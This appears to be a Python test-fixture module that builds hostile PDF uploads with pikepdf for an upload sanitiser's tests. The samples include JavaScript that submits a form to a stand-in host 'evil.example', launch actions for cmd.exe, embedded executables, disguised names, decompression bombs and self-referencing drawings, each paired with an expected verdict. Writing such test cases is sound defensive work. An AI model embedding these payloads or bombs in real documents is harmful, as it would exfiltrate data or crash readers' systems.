"""PDFs that act, that carry other files, that unfold to too much, or that are damaged."""

import io
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream

from services.consular.uploads.content_rules import EICAR
from tests.factories.uploads import PDF, pdf
from tests.factories.uploads.hostile import CLEAN, HostileUpload

SCRIPT = "app.alert('owned'); this.submitForm('http://evil.example/');"
ADDRESS = "http://evil.example/beacon"
SECRET = b"what nobody else should read"
# None of these may be left, in whatever place they stood.
ACTING = (b"JavaScript", b"/JS", b"/AA", b"/OpenAction", b"/Launch", b"/URI", b"/EmbeddedFile", b"/AcroForm", b"evil",
          b"/Annots", b"/Metadata", b"/Names", b"/Outlines", SECRET)  # fmt: skip
Change = Callable[[Pdf], object]


def changed(change: Change, pages: int = 1, **saved: Any) -> bytes:
    """A PDF with something to see on each page, after a change."""
    with pikepdf.open(io.BytesIO(pdf(pages))) as document:
        for page in document.pages:
            page.Contents = Stream(document, b"0 0 1 rg 100 100 200 200 re f")
        change(document)
        content = io.BytesIO()
        document.save(content, **saved)
    return content.getvalue()


def unchanged(_document: Pdf) -> None:
    """Changes nothing."""


def script() -> Dictionary:
    """The action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=SCRIPT)


def note(document: Pdf, **entries: Any) -> None:
    """An annotation on the first page."""
    kept = document.pages[0].obj.get("/Annots", Array())
    kept.append(document.make_indirect(Dictionary(Type=Name.Annot, Rect=[10, 10, 90, 90], **entries)))
    document.pages[0].obj.Annots = kept


def attached(document: Pdf, content: bytes = SECRET) -> Dictionary:
    """The description of a file within the PDF."""
    stream = Stream(document, content)
    stream.Type = Name.EmbeddedFile
    return document.make_indirect(Dictionary(Type=Name.Filespec, F="run.exe", UF="run.exe", EF=Dictionary(F=stream)))


def form(document: Pdf, **entries: object) -> None:
    """A form of one filled field."""
    field = {"Subtype": Name.Widget, "FT": Name.Tx, "T": "name", "V": "filled in", "DA": "/Helv 12 Tf 0 g", **entries}
    note(document, **field)
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].obj.Annots, NeedAppearances=True)


def form_of_another_language(document: Pdf) -> None:
    """A form that is described twice."""
    form(document)
    document.Root.AcroForm.XFA = stream(document, b"<evil/>")


def drawn(document: Pdf, name: str, resource: object, category: str = "/XObject") -> None:
    """A resource that the first page uses."""
    page = document.pages[0]
    page.obj.Resources = Dictionary({category: Dictionary({f"/{name}": resource})})
    page.Contents = Stream(document, f"/{name} Do".encode())


def stream(document: Pdf, content: bytes, **entries: object) -> Stream:
    """A stream with these entries."""
    made = Stream(document, content)
    for name, value in entries.items():
        made[f"/{name}"] = value
    return document.make_indirect(made)


def external(document: Pdf) -> None:
    """A form whose drawing lies in a file elsewhere."""
    reference = Dictionary(F=Dictionary(Type=Name.Filespec, F=ADDRESS), Page=0)
    drawn(document, "X", stream(document, b"", Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=reference))


def external_picture(document: Pdf) -> None:
    """A picture whose bytes lie at an address."""
    picture = {"Subtype": Name.Image, "Width": 1, "Height": 1, "BitsPerComponent": 8, "ColorSpace": Name.DeviceGray}
    drawn(document, "X", stream(document, b"\0", F=Dictionary(FS=Name.URL, F=ADDRESS), **picture))


ACTIONS: dict[str, Dictionary] = {
    "launch of a program": Dictionary(S=Name.Launch, F="cmd.exe"),
    "address": Dictionary(S=Name.URI, URI=ADDRESS),
    "form sent": Dictionary(S=Name.SubmitForm, F=ADDRESS),
    "data read": Dictionary(S=Name.ImportData, F="evil.fdf"),
    "other file": Dictionary(S=Name.GoToR, F="evil.pdf", D=[0, Name.Fit]),
    "file within": Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="evil"), D=[0, Name.Fit]),
    "hiding": Dictionary(S=Name.Hide, T="evil"),
    "sound": Dictionary(S=Name.Sound, Sound=Dictionary(R=8000)),
    "film": Dictionary(S=Name.Movie, T="evil"),
    "rendition": Dictionary(S=Name.Rendition, JS=SCRIPT, OP=0),
    "layers": Dictionary(S=Name.SetOCGState, State=[Name.ON]),
    "chain": Dictionary(S=Name.Named, N=Name.NextPage, Next=[Dictionary(S=Name.JavaScript, JS=SCRIPT)]),
}


def acting() -> Iterator[HostileUpload]:
    """Each is taken as its pages alone."""
    changes = dict(ACTING_CHANGES)
    for name, action in ACTIONS.items():
        changes[f"action: {name}"] = lambda d, action=action: note(d, Subtype=Name.Link, A=action)  # type: ignore[misc]
    for name, change in changes.items():
        yield HostileUpload(f"pdf: {name}", changed(change), CLEAN, ACTING)
    packed = changed(changes["script at opening"], object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield HostileUpload("pdf: script in a packed object", packed, CLEAN, ACTING)
    disguised = (
        changed(changes["script at opening"]).replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4aS")
    )
    yield HostileUpload("pdf: script by a disguised name", disguised, CLEAN, ACTING)
    locked = changed(changes["script at opening"], encryption=Encryption(owner="secret", user=""))
    yield HostileUpload("pdf: script behind an owner's lock", locked, CLEAN, ACTING)
    older = PDF + changed(lambda d: d.docinfo.__setitem__("/Title", SECRET.decode()))[9:]
    yield HostileUpload("pdf: an earlier version within", older, CLEAN, ACTING)


def unfolding() -> Iterator[HostileUpload]:
    """Small files of very many pages or objects, or that unpack or draw without end."""
    bomb = zlib.compress(b"0 0 m\n" * 20_000_000, 9)
    picture = {"Subtype": Name.Image, "BitsPerComponent": 1, "ColorSpace": Name.DeviceGray, "Width": 30_000}
    blank = zlib.compress(zlib.compress(b"\0" * 200_000_000, 9), 9)
    flate, both = {"Filter": Name.FlateDecode}, {"Filter": [Name.FlateDecode, Name.FlateDecode]}
    complex_, pages = "file_too_complex", "file_too_many_pages"
    yield HostileUpload("pdf: 6,000 pages", pdf(6000), pages)
    yield HostileUpload("pdf: a page more than allowed", pdf(51), pages)
    yield HostileUpload("pdf: as many pages as allowed", pdf(50), CLEAN)
    lying = changed(lambda d: d.Root.Pages.__setattr__("Count", 10**9))
    yield HostileUpload(
        "pdf: a thousand million pages, it says", lying.replace(b"/Count 1 ", b"/Count 999999999 "), pages
    )
    yield HostileUpload("pdf: one page 60,000 times", changed(_repeated), pages)
    yield HostileUpload("pdf: bomb", _packed(lambda d: _contents(d, bomb, flate)), complex_)
    yield HostileUpload("pdf: bomb in a bomb", _packed(lambda d: _contents(d, blank, both)), complex_)
    large = {**picture, "Height": 30_000, **flate}
    yield HostileUpload(
        "pdf: picture of 30,000 x 30,000",
        _packed(lambda d: drawn(d, "X", stream(d, zlib.compress(b"\0" * 9), **large))),
        "file_too_many_pixels",
    )
    yield HostileUpload("pdf: drawing that draws itself", changed(_itself), CLEAN)
    yield HostileUpload("pdf: a thousand million drawings", changed(_doubling), complex_)
    yield HostileUpload(
        "pdf: page of a kilometre", changed(lambda d: d.pages[0].__setattr__("MediaBox", [0, 0, 3e6, 3e6])), CLEAN
    )
    yield HostileUpload(
        "pdf: nested a million times", PDF.replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 10**6), CLEAN
    )
    yield HostileUpload("pdf: table that points to itself", _looping(), CLEAN)


def _packed(change: Change) -> bytes:
    """A change whose streams are written as they are."""
    return changed(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _contents(document: Pdf, data: bytes, entries: Mapping[str, object]) -> None:
    document.pages[0].Contents = stream(document, data, **entries)


def _repeated(document: Pdf) -> None:
    document.Root.Pages.Kids = Array([document.pages[0].obj] * 60_000)


def _itself(document: Pdf) -> None:
    form = stream(document, b"/X Do", Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    drawn(document, "X", form)


def _doubling(document: Pdf) -> None:
    """Each drawing draws the next one many times."""
    inner = stream(document, b"0 0 9 9 re f", Subtype=Name.Form, BBox=[0, 0, 9, 9])
    for _ in range(9):
        outer = stream(document, b"/X Do " * 30, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    drawn(document, "X", inner)


def _looping() -> bytes:
    start = int(PDF.rpartition(b"startxref")[2].split()[0])
    return PDF.replace(b"trailer << ", b"trailer << /Prev %d " % start)


def damaged() -> Iterator[HostileUpload]:
    """PDFs that cannot be read, or whose table alone is wrong."""
    locked = changed(unchanged, encryption=Encryption(owner="owner", user="user"))
    yield HostileUpload("pdf: locked", locked, "file_encrypted")
    old = changed(unchanged, encryption=Encryption(owner="owner", user="user", R=3, aes=False, metadata=False))
    yield HostileUpload("pdf: locked in the old way", old, "file_encrypted")
    unreadable = {
        "half": PDF[: len(PDF) // 2],
        "without its end": PDF[:-7],
        "without pages": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "of nothing but its first line": b"%PDF-1.7\n%%EOF\n",
        "of noise": b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF\n",
        "made by a script": changed(_dynamic),
    }
    for name, content in unreadable.items():
        yield HostileUpload(f"pdf: {name}", content, CLEAN if name == "made by a script" else "file_unreadable", ACTING)
    table = PDF.replace(b"startxref\n", b"startxref\n9")
    yield HostileUpload("pdf: wrong table", table, CLEAN)
    yield HostileUpload(
        "pdf: eicar", changed(lambda d: d.pages[0].__setattr__("Contents", stream(d, EICAR))), "file_infected"
    )
    hidden = changed(lambda d: d.Root.__setattr__("AF", Array([attached(d, EICAR)])))
    assert EICAR not in hidden
    yield HostileUpload("pdf: eicar in an attachment", hidden, "file_infected")


def _dynamic(document: Pdf) -> None:
    form(document)
    document.Root.AcroForm.XFA = stream(document, b"<evil/>")
    document.Root.NeedsRendering = True


# What makes a document act, by name.
ACTING_CHANGES: dict[str, Change] = {
    "script at opening": lambda d: d.Root.__setattr__("OpenAction", script()),
    "script by name": lambda d: d.Root.__setattr__("Names", Dictionary(JavaScript=Dictionary(Names=["a", script()]))),
    "script at closing": lambda d: d.Root.__setattr__("AA", Dictionary(WC=script())),
    "script of a page": lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=script())),
    "script of a note": lambda d: note(d, Subtype=Name.Link, A=script(), AA=Dictionary(E=script())),
    "script of a field": lambda d: form(d, AA=Dictionary(K=script(), F=script())),
    "script of a bookmark": lambda d: d.Root.__setattr__(
        "Outlines", Dictionary(First=d.make_indirect(Dictionary(Title="evil", A=script())), Count=1)
    ),
    "script within a drawing": lambda d: drawn(
        d, "X", stream(d, b"", Subtype=Name.Form, BBox=[0, 0, 9, 9], AA=Dictionary(O=script()), Metadata=script())
    ),
    "attachment": lambda d: d.Root.__setattr__(
        "Names", Dictionary(EmbeddedFiles=Dictionary(Names=["run.exe", attached(d)]))
    ),
    "attachment on a page": lambda d: note(d, Subtype=Name.FileAttachment, FS=attached(d)),
    "associated file": lambda d: d.Root.__setattr__("AF", Array([attached(d)])),
    "associated file of a page": lambda d: d.pages[0].obj.__setattr__("AF", Array([attached(d)])),
    "portfolio": lambda d: d.Root.__setattr__("Collection", Dictionary(View=Name.D, D="evil")),
    "film of flash": lambda d: note(d, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=attached(d))),
    "space": lambda d: note(d, Subtype=Name("/3D"), OnInstantiate=stream(d, SCRIPT.encode())),
    "drawing elsewhere": external,
    "picture elsewhere": external_picture,
    "postscript": lambda d: drawn(d, "X", stream(d, b"(evil) run", Subtype=Name.PS)),
    "data about the author": lambda d: d.docinfo.__setitem__("/Author", SECRET.decode()),
    "metadata": lambda d: d.Root.__setattr__("Metadata", stream(d, b"<x:xmpmeta>" + SECRET, Type=Name.Metadata)),
    "private data": lambda d: d.pages[0].obj.__setattr__("PieceInfo", Dictionary(Evil=Dictionary(Private=SECRET))),
    "form of another language": form_of_another_language,
    "signature": lambda d: form(d, FT=Name.Sig, V=Dictionary(Filter=Name("/Adobe.PPKLite"), Contents=SECRET)),
    "address of the file": lambda d: d.Root.__setattr__("URI", Dictionary(Base=ADDRESS)),
    "extension": lambda d: d.Root.__setattr__("Extensions", Dictionary(EVIL=Dictionary(BaseVersion=Name("/1.7")))),
}
